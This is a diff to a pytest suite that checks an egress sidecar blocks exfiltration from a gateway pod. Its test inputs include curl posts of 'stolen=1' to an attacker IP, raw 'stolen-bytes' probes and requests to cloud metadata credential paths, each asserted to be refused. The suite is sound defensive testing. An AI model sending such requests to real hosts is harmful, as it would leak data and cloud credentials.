@@ -80,6 +80,9 @@ PROVIDER_HOST = "api.openai.com"
 PROVIDER_V4 = NET_V4  # 10.77.0.2
 ATTACKER_V4 = "10.77.0.3"
 ATTACKER_V6 = "fd77::3"
+# TLS without SNI to an address: refused as such (protocol_not_allowed, issue 4) or for
+# the address itself (private_address / ip_literal, S3/S4); never forwarded.
+NO_SNI_REASONS = {"protocol_not_allowed", "private_address", "ip_literal"}
 LABEL = re.compile(r'(\w+)="([^"]*)"')
 METADATA_V4 = "169.254.169.254"
 METADATA_V6 = "fd00:ec2::254"
@@ -131,7 +134,6 @@ class World:
     attacker: Attacker
     gateway_ca: Path
     upstream_ca: Path
-    key_injection: bool
     ipv6_listeners: bool
 
     # running things in the pod
@@ -270,20 +272,9 @@ def _interpreter_wrapper(stage: Path) -> list[str]:
     return []
 
 
-def _key_injection_available() -> bool:
-    proc = sh(str(VENV_BIN / "egress-sidecar"), "run", "--help", check=False)
-    return "--secrets-dir" in proc.stdout
-
-
-def _policy(key_injection: bool) -> str:
-    credential = (
-        '    credential: {header: authorization, format: "Bearer {secret}", secret: openai}\n'
-        if key_injection
-        else ""
-    )
-    return (
-        textwrap.dedent(
-            f"""\
+def _policy() -> str:
+    return textwrap.dedent(
+        f"""\
             version: 1
             mode: enforce
             providers:
@@ -297,9 +288,9 @@ def _policy(key_injection: bool) -> str:
                 # answers are refused unless an entry lists them (S3), so exactly the
                 # provider's one address is allowed; the attacker's 10.77.0.3 is not.
                 addresses: [{PROVIDER_V4}/32]
+                # The key (from --secrets-dir) is added by the sidecar, for this host only.
+                credential: {{header: authorization, format: "Bearer {{secret}}", secret: openai}}
             """
-        )
-        + credential
     )
 
 
@@ -336,10 +327,8 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
             os.chown(work / sub, SIDECAR_UID, SIDECAR_UID)
         (work / "stage").mkdir()
         upstream_ca = _write(work / "upstream-ca.pem", test_ca.cert_pem.bytes().decode())
-        key_injection = _key_injection_available()
-        policy = _write(work / "policy.yaml", _policy(key_injection))
-        if key_injection:
-            _write(work / "secrets" / "openai", PROVIDER_KEY, 0o400, SIDECAR_UID)
+        policy = _write(work / "policy.yaml", _policy())
+        _write(work / "secrets" / "openai", PROVIDER_KEY, 0o400, SIDECAR_UID)
 
         # The gateway's resolver is the attacker's (ip netns exec bind-mounts it).
         etc_netns = Path("/etc/netns")
@@ -386,13 +375,13 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
         # The init container, then the sidecar as UID 1337.
         init = pod.init()
         assert init.returncode == 0, init.stderr
-        extra = ["--secrets-dir", str(work / "secrets")] if key_injection else []
+        extra = ["--secrets-dir", str(work / "secrets")]
         sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=True)
         ipv6_listeners = sidecar is not None
         if sidecar is None:
-            # BUG (see test_sidecar_binds_ipv6_listeners): `[::1]:PORT` listeners make
-            # the sidecar exit at start. IPv4 listeners only, so that the rest of the
-            # boundary is still tested; redirected IPv6 then finds no listener.
+            # `[::1]:PORT` listeners made the sidecar exit at start (a bug, fixed; a
+            # regression fails test_sidecar_binds_ipv6_listeners). IPv4 listeners only,
+            # so the rest of the boundary is still tested; IPv6 then finds no listener.
             sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=False)
             assert sidecar is not None
 
@@ -410,7 +399,6 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
             attacker=attacker,
             gateway_ca=gateway_ca,
             upstream_ca=upstream_ca,
-            key_injection=key_injection,
             ipv6_listeners=ipv6_listeners,
         )
 
@@ -498,10 +486,12 @@ def _received(world: World, headers: list[str]) -> list[Any]:
     return [r for r in world.provider.received if r.headers.get("x-test-marker") == marker]
 
 
-def _assert_refused_by_sidecar(got: Curl, reason: str) -> None:
+def _assert_refused_by_sidecar(got: Curl, reason: str | set[str]) -> str:
+    """The sidecar answered 403 with one of these reason codes; returns the code."""
     assert got.exit == 0 and got.status == 403, got
-    assert got.reason == reason, got
+    assert got.reason in ({reason} if isinstance(reason, str) else reason), got
     assert ATTACKER_BANNER.decode() not in got.body
+    return str(got.reason)
 
 
 # --- the allowed path --------------------------------------------------------------
@@ -524,11 +514,12 @@ def test_provider_call_through_plain_https_works(world: World) -> None:
     # The name was resolved through the sidecar (upstream asked), not the attacker.
     assert (PROVIDER_HOST, "A") in world.upstream.questions
     world.assert_attacker_saw_nothing(mark)
-    if world.key_injection:
-        assert request.headers["authorization"] == f"Bearer {PROVIDER_KEY}"
-        assert PROVIDER_KEY not in got.body and PROVIDER_KEY not in str(got.headers)
-    # TODO(key injection): without --secrets-dir the dummy key passes through as-is;
-    # see the report. Nothing here is skipped.
+    # Key injection: the provider got the sidecar's key, never the gateway's dummy;
+    # the key is not in anything returned to the gateway nor in the sidecar's records.
+    assert request.headers["authorization"] == f"Bearer {PROVIDER_KEY}"
+    assert GATEWAY_DUMMY_KEY not in str(request.headers)
+    assert PROVIDER_KEY not in got.body and PROVIDER_KEY not in str(got.headers)
+    assert PROVIDER_KEY not in "".join(world.sidecar.stdout_lines + world.sidecar.stderr_lines)
 
 
 def test_sidecar_own_upstream_traffic_flows(world: World) -> None:
@@ -567,12 +558,12 @@ def test_attacker_would_see_a_leak(world: World) -> None:
     mark = world.mark()
     got = world.curl(f"https://{ATTACKER_V4}/control", "-k", uid=SIDECAR_UID)
     assert got.status == 200 and ATTACKER_BANNER.decode() in got.body, got
-    world.probe("udp", ATTACKER_V6, "9", uid=SIDECAR_UID)  # no server: only counted
+    world.probe("udp", ATTACKER_V6, "9", "0.2", uid=SIDECAR_UID)  # no server: only counted
     kinds = {(seen.kind, seen.local) for seen in world.attacker.since(mark.seen)}
     assert {("tcp", f"{ATTACKER_V4}:443"), ("request", f"{ATTACKER_V4}:443")} <= kinds
     assert world.attacker_packets() >= mark.packets + 4  # SYN, ACK, ..., and the datagram
     v6_only = world.mark()
-    world.probe("udp", ATTACKER_V6, "9", uid=SIDECAR_UID)
+    world.probe("udp", ATTACKER_V6, "9", "0.2", uid=SIDECAR_UID)
     assert world.attacker_packets() == v6_only.packets + 1
     assert world.decisions_since(mark) == []  # it never went through the sidecar
 
@@ -584,8 +575,8 @@ def test_direct_tcp_to_attacker_ip_443(world: World) -> None:
     """TLS straight to the attacker's IP (no SNI, an IP literal): refused, never dialled."""
     mark = world.mark()
     got = world.curl(f"https://{ATTACKER_V4}/upload", "-k", "-d", "stolen=1")
-    _assert_refused_by_sidecar(got, "private_address")
-    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V4, port=443,
+    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
+    world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V4, port=443,
                                      mode="transparent")  # fmt: skip
     # Raw bytes (neither TLS nor HTTP): held by the sidecar, nothing comes back.
     raw = world.probe("tcp", ATTACKER_V4, "443", "stolen-bytes\\r\\n")
@@ -618,6 +609,7 @@ def test_tls_to_attacker_ip_with_allowed_sni(world: World) -> None:
     world.assert_refused_and_alerted(mark, "destination_mismatch", host=PROVIDER_HOST,
                                      mode="transparent")  # fmt: skip
     world.assert_attacker_saw_nothing(mark)  # so no request, and no key, reached it
+    assert not any(PROVIDER_KEY.encode() in seen.data for seen in world.attacker.seen)
     assert _received(world, headers) == []  # nor was it "corrected" to the provider
 
 
@@ -693,28 +685,28 @@ def test_ipv6_to_attacker_blocked(world: World) -> None:
     for got in attempts:
         assert got.status in (0, 403), got  # refused by the sidecar, or no listener
         assert ATTACKER_BANNER.decode() not in got.body
-    if world.ipv6_listeners:
-        assert [a.reason for a in attempts] == [
-            "private_address", "private_address", "destination_mismatch",
-        ]  # fmt: skip
+    if world.ipv6_listeners:  # else no listener: refused by the kernel (see the fixture)
+        assert attempts[0].reason in NO_SNI_REASONS, attempts[0]
+        assert [a.reason for a in attempts[1:]] == ["private_address", "destination_mismatch"]
     dns = world.probe("dns", ATTACKER_V6, "unlisted-v6.example", "AAAA")
     assert dns.get("rcode") in (None, "REFUSED"), dns  # never the attacker's answer
     assert world.attacker.dns_questions == []
     world.assert_attacker_saw_nothing(mark)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: IPv6 listeners ([::1]:15001, [::1]:15053) make the sidecar exit at start "
-    "(runner.mode_specs brackets the host; mitmproxy keeps the brackets and "
-    "getaddrinfo('[::1]') fails), so redirected IPv6 is never decided or logged",
-)
 def test_ipv6_attempts_are_decided_and_logged(world: World) -> None:
+    """Redirected IPv6 reaches the [::1] listeners and is decided, logged and alerted.
+
+    Found while writing this suite: `[::1]:PORT` listeners used to make the sidecar
+    exit at start (bracketed host in the mitmproxy mode spec).
+    """
     assert world.ipv6_listeners, "the sidecar could not bind [::1] listeners"
     mark = world.mark()
     got = world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g")
-    _assert_refused_by_sidecar(got, "private_address")
-    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V6)
+    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
+    world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V6)
+    plain = world.curl(f"http://[{ATTACKER_V6}]/collect", "-g")
+    _assert_refused_by_sidecar(plain, "private_address")
     meta = world.curl(f"http://[{METADATA_V6}]/latest/meta-data/", "-g")
     _assert_refused_by_sidecar(meta, "metadata_address")
     dns = world.probe("dns", ATTACKER_V6, PROVIDER_HOST, "A")
@@ -742,8 +734,8 @@ def test_metadata_address_blocked(world: World) -> None:
     got = world.curl(f"http://{METADATA_V4}/latest/meta-data/iam/security-credentials/")
     _assert_refused_by_sidecar(got, "metadata_address")
     world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=80)
-    tls = world.curl(f"https://{METADATA_V4}/", "-k")
-    _assert_refused_by_sidecar(tls, "metadata_address")
+    tls = world.curl(f"https://{METADATA_V4}/", "-k")  # TLS, no SNI
+    _assert_refused_by_sidecar(tls, {"metadata_address", "protocol_not_allowed"})
     world.assert_attacker_saw_nothing(mark)
 
 
@@ -767,7 +759,7 @@ def test_gateway_cannot_change_rules(world: World) -> None:
     assert "verify ok" in verify.stdout
 
 
-# --- found while writing these -----------------------------------------------------
+# --- found while writing these (bugs fixed in runner.py / enforcer.py meanwhile) ---
 
 
 def test_tls_with_allowed_sni_and_other_host_header(world: World) -> None:
@@ -781,33 +773,27 @@ def test_tls_with_allowed_sni_and_other_host_header(world: World) -> None:
     world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: a transparent TLS connection without SNI is accepted: the enforcer "
-    "falls back to the Host header inside TLS (enforcer._destination), while issue 4 "
-    "says connections without SNI are refused unless policy allows that TCP destination",
-)
 def test_tls_without_sni_is_refused(world: World) -> None:
+    """TLS without SNI to the provider's own address, allowed Host inside: refused.
+
+    Issue 4: no SNI is refused unless a policy entry allows that TCP destination.
+    Found while writing this suite: the Host header inside TLS used to stand in.
+    """
     mark = world.mark()
     headers = _gateway_headers()
     got = world.curl(
         f"https://{PROVIDER_V4}/v1/models", "-k", "-H", f"Host: {PROVIDER_HOST}", *headers
     )
     assert _received(world, headers) == [], "forwarded a TLS connection that had no SNI"
-    assert got.status == 403, got
-    assert world.wait_decision(mark, host=PROVIDER_HOST)["decision"] == "block"
+    _assert_refused_by_sidecar(got, "protocol_not_allowed")
+    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: `--transparent [::1]:PORT` / `--dns [::1]:PORT` exit at start: "
-    "runner.mode_specs writes transparent@[::1]:PORT, mitmproxy's ProxyMode.parse keeps "
-    "the brackets as the listen host, and binding '[::1]' fails (Errno -2)",
-)
 def test_sidecar_binds_ipv6_listeners(world: World) -> None:
     """The documented pod listeners include [::1]; a second sidecar (root, other ports)."""
     policy = world.work / "policy.yaml"
     args = sidecar_args(world.work, policy, world.upstream_ca, ipv6=True, port_offset=100)
+    args += ["--secrets-dir", str(world.work / "secrets")]
     sidecar = sidecar_process(world.pod, world.work, args, 0)
     try:
         sidecar.start(timeout=30)
